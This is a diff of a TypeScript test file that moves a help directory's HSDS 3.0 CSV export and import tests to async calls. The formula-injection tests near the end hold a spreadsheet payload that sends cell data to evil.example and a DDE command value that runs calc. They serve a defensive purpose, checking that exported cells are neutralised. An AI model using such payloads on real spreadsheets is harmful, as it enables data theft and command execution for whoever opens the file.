@@ -69,9 +69,9 @@ afterEach(() => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-function exportZip() {
-  applySeed(t.db, RECORDS, new Date('2026-11-23T00:00:00Z'));
-  return exportHsdsPackage(listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' });
+async function exportZip() {
+  await applySeed(t.db, RECORDS, new Date('2026-11-23T00:00:00Z'));
+  return exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' });
 }
 
 /** The files of a zip as text. */
@@ -81,13 +81,13 @@ const texts = (zip: Uint8Array): Record<string, string> => Object.fromEntries(Ob
 const cells = (files: Record<string, string>): string[] => Object.entries(files).filter(([name]) => name.endsWith('.csv')).flatMap(([, text]) => (parse(text) as string[][]).flat());
 
 describe('the HSDS 3.0 CSV datapackage', () => {
-  it('conforms to the specification’s tabular schema: descriptor, tables, columns and every cell', () => {
-    const files = texts(exportZip().zip);
+  it('conforms to the specification’s tabular schema: descriptor, tables, columns and every cell', async () => {
+    const files = texts((await exportZip()).zip);
     expect(tabular.problems(files)).toEqual([]);
   });
 
-  it('is checked by a tabular schema that does refuse a bad package', () => {
-    const files = texts(exportZip().zip);
+  it('is checked by a tabular schema that does refuse a bad package', async () => {
+    const files = texts((await exportZip()).zip);
     const [header, first, ...rest] = files['services.csv']!.split('\n');
     const firstId = first!.split(',')[0]!;
     const bad = {
@@ -110,8 +110,8 @@ describe('the HSDS 3.0 CSV datapackage', () => {
     );
   });
 
-  it('has a descriptor and the tables of the specification, with its columns', () => {
-    const files = unzipSync(exportZip().zip);
+  it('has a descriptor and the tables of the specification, with its columns', async () => {
+    const files = unzipSync((await exportZip()).zip);
     const descriptor: unknown = JSON.parse(strFromU8(files['datapackage.json']!));
     expect(descriptor).toMatchObject({ name: 'womens-help-directory', title: 'Test Directory', homepage: 'https://help.example.org/', profile: 'tabular-data-package' });
     for (const table of Object.keys(TABLE_COLUMNS)) {
@@ -126,11 +126,11 @@ describe('the HSDS 3.0 CSV datapackage', () => {
 
   it('comes back through our importer as the same directory', async () => {
     const path = join(dir, 'directory.zip');
-    writeFileSync(path, exportZip().zip);
+    writeFileSync(path, (await exportZip()).zip);
     const result = await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
     expect(result.lines[0]).toBe(`${RECORDS.length} added, 0 updated, 0 unchanged, 0 removed, 0 skipped`);
-    const back = new Map(listResources(t2.db).map((r) => [r.title, r]));
-    for (const original of listResources(t.db)) {
+    const back = new Map((await listResources(t2.db)).map((r) => [r.title, r]));
+    for (const original of await listResources(t.db)) {
       const imported = back.get(original.title);
       expect(imported, original.title).toBeDefined();
       expect(carried(imported!), original.title).toEqual(carried(asImported(original)));
@@ -143,8 +143,8 @@ describe('the HSDS 3.0 CSV datapackage', () => {
   });
 
   it('writes the counties a listing serves as service areas with their FIPS code, and our importer reads them back', async () => {
-    applySeed(t.db, [makeResource({ id: 'nyc-line', title: 'NYC Line', description: 'The city’s hotline.', city: 'New York', state: 'NY', serviceArea: 'local' })]);
-    const zip = exportHsdsPackage(listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
+    await applySeed(t.db, [makeResource({ id: 'nyc-line', title: 'NYC Line', description: 'The city’s hotline.', city: 'New York', state: 'NY', serviceArea: 'local' })]);
+    const zip = exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
     const rows = parse(texts(zip)['service_areas.csv']!, { columns: true }) as Record<string, string>[];
     // A city's own listing serves the counties the city lies in: New York City's five.
     expect(rows.map((r) => [r.name, r.extent, r.extent_type])).toEqual([
@@ -158,7 +158,7 @@ describe('the HSDS 3.0 CSV datapackage', () => {
     writeFileSync(path, zip);
     const result = await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
     expect(result.lines).toContain('1 listing placed in the counties their service areas name.');
-    const back = listResources(t2.db)[0]!;
+    const back = (await listResources(t2.db))[0]!;
     expect(back.counties).toEqual(['36005', '36047', '36061', '36081', '36085']);
     // Exported again, each county is written once (its name came back as a service area).
     const again = exportHsdsPackage([back], { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
@@ -168,21 +168,21 @@ describe('the HSDS 3.0 CSV datapackage', () => {
 
   it('reads a county from its FIPS code as the area’s extent, whatever the area is called', async () => {
     // The District of Columbia: a name that says no "County", given with its code (and no city to work it out from).
-    applySeed(t.db, [makeResource({ id: 'dc-line', title: 'DC Line', description: 'The District’s line.', state: 'DC', serviceArea: 'local', counties: ['11001'] })]);
-    const zip = exportHsdsPackage(listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
+    await applySeed(t.db, [makeResource({ id: 'dc-line', title: 'DC Line', description: 'The District’s line.', state: 'DC', serviceArea: 'local', counties: ['11001'] })]);
+    const zip = exportHsdsPackage(await listResources(t.db), { title: 'Test Directory', homepage: 'https://help.example.org/' }).zip;
     expect((parse(texts(zip)['service_areas.csv']!, { columns: true }) as Record<string, string>[]).map((r) => [r.name, r.extent])).toEqual([['District of Columbia, DC', '11001']]);
     const path = join(dir, 'dc.zip');
     writeFileSync(path, zip);
     await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
-    expect(listResources(t2.db)[0]?.counties).toEqual(['11001']);
+    expect((await listResources(t2.db))[0]?.counties).toEqual(['11001']);
   });
 
   it('says a listing open round the clock without weekly hours as seven all-day rows', async () => {
-    applySeed(t.db, [makeResource({ id: 'always', title: 'Always Open Line', isOpen24Hours: true })]);
+    await applySeed(t.db, [makeResource({ id: 'always', title: 'Always Open Line', isOpen24Hours: true })]);
     const path = join(dir, 'always.zip');
-    writeFileSync(path, exportHsdsPackage(listResources(t.db), { title: 'Test Directory' }).zip);
+    writeFileSync(path, exportHsdsPackage(await listResources(t.db), { title: 'Test Directory' }).zip);
     await importHsds(t2.db, path, { sourceUrl: 'https://example.org/', now: NOW });
-    expect(listResources(t2.db)[0]).toMatchObject({ isOpen24Hours: true, schedule: allWeek });
+    expect((await listResources(t2.db))[0]).toMatchObject({ isOpen24Hours: true, schedule: allWeek });
   });
 });
 
@@ -213,11 +213,11 @@ describe('npm run export:hsds', () => {
     const source = readFileSync(join(FIXTURE_11, 'physical_addresses.csv'), 'utf8') + readFileSync(join(FIXTURE_11, 'locations.csv'), 'utf8');
     for (const secret of ['1500 Example Street', '33130', '33142', '25.7617', '-80.1918']) expect(source).toContain(secret);
     await importHsds(t.db, FIXTURE_11, { now: NOW });
-    applySeed(t.db, RECORDS, new Date('2026-11-23T00:00:00Z'));
+    await applySeed(t.db, RECORDS, new Date('2026-11-23T00:00:00Z'));
     const out = join(dir, 'directory.zip');
     const { stdout } = await exportCli(out);
     const files = texts(readFileSync(out));
-    const services = listResources(t.db).length;
+    const services = (await listResources(t.db)).length;
     expect(stdout).toMatch(new RegExp(`^Wrote ${out}: ${services} services, \\d+ organizations, \\d+ locations \\(HSDS 3\\.0\\)\\.\\n$`));
     expect(files['services.csv']!.trim().split('\n')).toHaveLength(services + 1);
     expect(tabular.problems(files)).toEqual([]);
@@ -240,9 +240,9 @@ describe('npm run export:hsds', () => {
 describe('names that a spreadsheet would run as formulas', () => {
   const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
 
-  it('are written as text in every CSV of the export', () => {
-    applySeed(t2.db, [makeResource({ id: 'odd', title: HOSTILE, organization: '@SUM(1+1)', description: '-2+3 looks like sums', category: 'grants' }), RECORDS[2]!]);
-    const files = texts(exportHsdsPackage(listResources(t2.db), { title: 'Test Directory' }).zip);
+  it('are written as text in every CSV of the export', async () => {
+    await applySeed(t2.db, [makeResource({ id: 'odd', title: HOSTILE, organization: '@SUM(1+1)', description: '-2+3 looks like sums', category: 'grants' }), RECORDS[2]!]);
+    const files = texts(exportHsdsPackage(await listResources(t2.db), { title: 'Test Directory' }).zip);
     const all = cells(files);
     for (const cell of all) if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(all).toContain(`'${HOSTILE}`);
@@ -259,7 +259,7 @@ describe('names that a spreadsheet would run as formulas', () => {
       writeFileSync(join(folder, 'services.csv'), `id,organization_id,name,description,status\nsvc-1,org-1,"${HOSTILE.replace(/"/g, '""')}",Help with rent.,active\n`);
       const result = await importHsds(t2.db, folder, { source: 'formula-test', sourceUrl: 'https://example.org/', now: NOW });
       expect(result.lines[0]).toMatch(/^1 added/);
-      const [listing] = listResources(t2.db);
+      const [listing] = await listResources(t2.db);
       expect(listing?.title).toBe('HYPERLINK("https://evil.example/?leak="&A1,"Click")');
       expect(listing?.organization).toBe("cmd|' /C calc'!A0");
     } finally {
